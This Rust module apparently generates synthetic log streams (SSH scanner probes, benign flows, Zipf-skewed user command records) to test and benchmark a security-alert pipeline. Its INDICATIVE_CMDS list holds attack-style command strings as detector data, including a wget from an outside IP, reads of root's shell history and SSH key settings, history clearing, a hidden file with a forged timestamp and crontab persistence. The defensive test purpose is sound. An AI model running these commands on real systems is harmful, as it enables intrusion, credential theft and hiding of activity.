//! Raw record-stream workloads for the streaming pipeline.
//!
//! The other scenario modules emit *alerts* (post-symbolization) or
//! simulation *actions*; the streaming executors and their benchmarks need
//! the layer in between — a reproducible stream of [`LogRecord`]s mixing:
//!
//! - mass-scanner probe floods (collapsed by the repeated-scan filter),
//! - benign established flows (mostly symbolize to nothing),
//! - per-user host command sessions whose alerts survive the filter and
//!   exercise the per-entity detectors — the load the sharded executor
//!   partitions.
//!
//! User activity is Zipf-skewed so shard balance is tested under realistic
//! entity popularity, not a uniform idealization.

use simnet::flow::{ConnState, Direction, FlowId, Proto, Service};
use simnet::intern::{Sym, SymScope};
use simnet::rng::{SimRng, Zipf};
use simnet::time::{SimDuration, SimTime};
use simnet::topology::HostId;
use telemetry::record::{ConnRecord, LogRecord, ProcessRecord};

/// Shape of a mixed record stream.
#[derive(Debug, Clone)]
pub struct RecordStreamConfig {
    pub start: SimTime,
    /// Stream horizon; timestamps are spread uniformly across it.
    pub horizon: SimDuration,
    /// Scanner probe records (SSH S0 probes from a small source pool).
    pub scan_records: usize,
    /// Distinct scanner sources.
    pub scanners: usize,
    /// Benign established flows.
    pub benign_flows: usize,
    /// Host command (process) records across the user population.
    pub exec_records: usize,
    /// Distinct user accounts (detector entities).
    pub users: usize,
    /// Zipf exponent for user activity skew (0 = uniform).
    pub zipf_exponent: f64,
    /// Fraction of command records drawn from the attack-indicative
    /// palette (the rest are benign). The default matches the historical
    /// 8-of-12 palette mix that keeps the per-entity detectors busy;
    /// evaluation harnesses measuring false-positive rates set this low so
    /// the background is genuinely benign.
    pub indicative_exec_fraction: f64,
}

impl Default for RecordStreamConfig {
    fn default() -> Self {
        RecordStreamConfig {
            start: SimTime::from_date(2024, 10, 1),
            horizon: SimDuration::from_hours(24),
            scan_records: 40_000,
            scanners: 32,
            benign_flows: 20_000,
            exec_records: 40_000,
            users: 2_000,
            zipf_exponent: 1.1,
            indicative_exec_fraction: 8.0 / 12.0,
        }
    }
}

/// Benign command palette (symbolizes to nothing).
const BENIGN_CMDS: &[&str] = &[
    "ls -la /scratch/project",
    "python3 train.py --epochs 10",
    "sbatch batch_job.sh",
    "tail -n 100 output.log",
];

/// Attack-indicative command palette (one Significant-severity alert each;
/// passes the scan filter and drives the per-entity detectors).
const INDICATIVE_CMDS: &[&str] = &[
    "wget http://64.215.4.5/abs.c",
    "make -C /lib/modules/4.4/build modules",
    "grep -r IdentityFile /etc/ssh",
    "cat /home/shared/.ssh/known_hosts",
    "cat /root/.bash_history",
    "history -c && exit",
    "touch -t 202410010101 /tmp/.hidden",
    "crontab /tmp/cron.txt",
];

/// Generate a time-ordered mixed record stream, minting its symbols into
/// `scope` — a tenant pipeline feeds on a stream minted in its own scope
/// so the stream's symbols live (and die) with the tenant.
///
/// Allocation-light by construction: command/exe palettes, hostnames and
/// the user population are interned once up front (reused verbatim across
/// calls — the [`Sym`] table deduplicates), scanner addresses are
/// computed numerically instead of `format!`+parse, and each emitted
/// record is a flat `Sym`-carrying value. The only per-call heap cost is
/// the records vector itself.
pub fn record_stream(
    scope: &SymScope,
    cfg: &RecordStreamConfig,
    rng: &mut SimRng,
) -> Vec<LogRecord> {
    use std::fmt::Write as _;

    let total = cfg.scan_records + cfg.benign_flows + cfg.exec_records;
    let mut records: Vec<LogRecord> = Vec::with_capacity(total);
    let horizon_ns = cfg.horizon.as_nanos().max(1);
    let ts = |rng: &mut SimRng| cfg.start + SimDuration::from_nanos(rng.range_u64(0, horizon_ns));

    let scanners = cfg.scanners.max(1);
    for i in 0..cfg.scan_records {
        let t = ts(rng);
        let scanner = 1 + (i % scanners) as u64;
        records.push(LogRecord::Conn(ConnRecord {
            ts: t,
            uid: FlowId(i as u64),
            orig_h: std::net::Ipv4Addr::new(
                103,
                (100 + scanner / 200) as u8,
                (1 + scanner % 200) as u8,
                9,
            ),
            orig_p: 40_000,
            resp_h: simnet::addr::ncsa_production().nth(rng.range_u64(0, 65_536)),
            resp_p: 22,
            proto: Proto::Tcp,
            service: Service::Ssh,
            duration: SimDuration::ZERO,
            orig_bytes: 0,
            resp_bytes: 0,
            conn_state: ConnState::S0,
            direction: Direction::Inbound,
        }));
    }

    for i in 0..cfg.benign_flows {
        let t = ts(rng);
        records.push(LogRecord::Conn(ConnRecord {
            ts: t,
            uid: FlowId((cfg.scan_records + i) as u64),
            orig_h: simnet::addr::ncsa_production().nth(rng.range_u64(256, 20_000)),
            orig_p: (40_000 + (i % 20_000)) as u16,
            resp_h: simnet::addr::ncsa_production().nth(rng.range_u64(256, 20_000)),
            resp_p: [22, 443, 2049][rng.index(3)],
            proto: Proto::Tcp,
            service: Service::Ssh,
            duration: SimDuration::from_secs(rng.range_u64(1, 120)),
            orig_bytes: rng.range_u64(500, 100_000),
            resp_bytes: rng.range_u64(500, 100_000),
            conn_state: ConnState::SF,
            direction: Direction::Internal,
        }));
    }

    let users = cfg.users.max(1);
    let zipf = Zipf::new(users, cfg.zipf_exponent);
    // Interned palettes: one intern per distinct string per process, one
    // scratch buffer for the formatted names.
    let benign_cmds: Vec<Sym> = BENIGN_CMDS.iter().map(|c| scope.sym(c)).collect();
    let indicative_cmds: Vec<Sym> = INDICATIVE_CMDS.iter().map(|c| scope.sym(c)).collect();
    let exe: Sym = scope.sym("/bin/bash");
    let mut scratch = String::new();
    let hostnames: Vec<Sym> = (0..64u32)
        .map(|h| {
            scratch.clear();
            let _ = write!(scratch, "compute-{h}");
            scope.sym(&scratch)
        })
        .collect();
    let user_names: Vec<Sym> = (0..users)
        .map(|rank| {
            scratch.clear();
            let _ = write!(scratch, "user{rank:05}");
            scope.sym(&scratch)
        })
        .collect();
    for i in 0..cfg.exec_records {
        let t = ts(rng);
        let user_rank = zipf.sample(rng);
        let cmd = if rng.chance(cfg.indicative_exec_fraction) {
            indicative_cmds[rng.index(indicative_cmds.len())]
        } else {
            benign_cmds[rng.index(benign_cmds.len())]
        };
        records.push(LogRecord::Process(ProcessRecord {
            ts: t,
            host: HostId((user_rank % 64) as u32),
            hostname: hostnames[user_rank % 64],
            user: user_names[user_rank],
            pid: 1_000 + (i % 60_000) as u32,
            ppid: 1,
            exe,
            cmdline: cmd,
        }));
    }

    records.sort_by_key(|r| r.ts());
    records
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn stream_is_reproducible_and_ordered() {
        let cfg = RecordStreamConfig {
            scan_records: 500,
            benign_flows: 300,
            exec_records: 400,
            users: 50,
            ..RecordStreamConfig::default()
        };
        let a = record_stream(&SymScope::global(), &cfg, &mut SimRng::seed(7));
        let b = record_stream(&SymScope::global(), &cfg, &mut SimRng::seed(7));
        assert_eq!(a.len(), 1_200);
        assert_eq!(a, b, "seeded generation is deterministic");
        assert!(a.windows(2).all(|w| w[0].ts() <= w[1].ts()));
    }

    #[test]
    fn exec_records_cover_many_users() {
        let cfg = RecordStreamConfig {
            scan_records: 0,
            benign_flows: 0,
            exec_records: 2_000,
            users: 100,
            ..RecordStreamConfig::default()
        };
        let records = record_stream(&SymScope::global(), &cfg, &mut SimRng::seed(1));
        let users: std::collections::HashSet<Sym> = records
            .iter()
            .filter_map(|r| match r {
                LogRecord::Process(p) => Some(p.user),
                _ => None,
            })
            .collect();
        assert!(
            users.len() > 30,
            "zipf still spreads entities: {}",
            users.len()
        );
    }

    #[test]
    fn indicative_fraction_controls_alert_yield() {
        let base = RecordStreamConfig {
            scan_records: 0,
            benign_flows: 0,
            exec_records: 3_000,
            users: 100,
            ..RecordStreamConfig::default()
        };
        let yield_of = |frac: f64| {
            let cfg = RecordStreamConfig {
                indicative_exec_fraction: frac,
                ..base.clone()
            };
            let mut sym = alertlib::Symbolizer::with_defaults();
            let mut alerts = Vec::new();
            for r in record_stream(&SymScope::global(), &cfg, &mut SimRng::seed(2)) {
                sym.symbolize_into(&r, &mut alerts);
            }
            alerts.len()
        };
        assert_eq!(yield_of(0.0), 0, "benign-only background raises no alerts");
        let low = yield_of(0.05);
        let high = yield_of(0.9);
        assert!(
            low > 0 && high > low * 5,
            "fraction scales yield: {low} vs {high}"
        );
    }
}
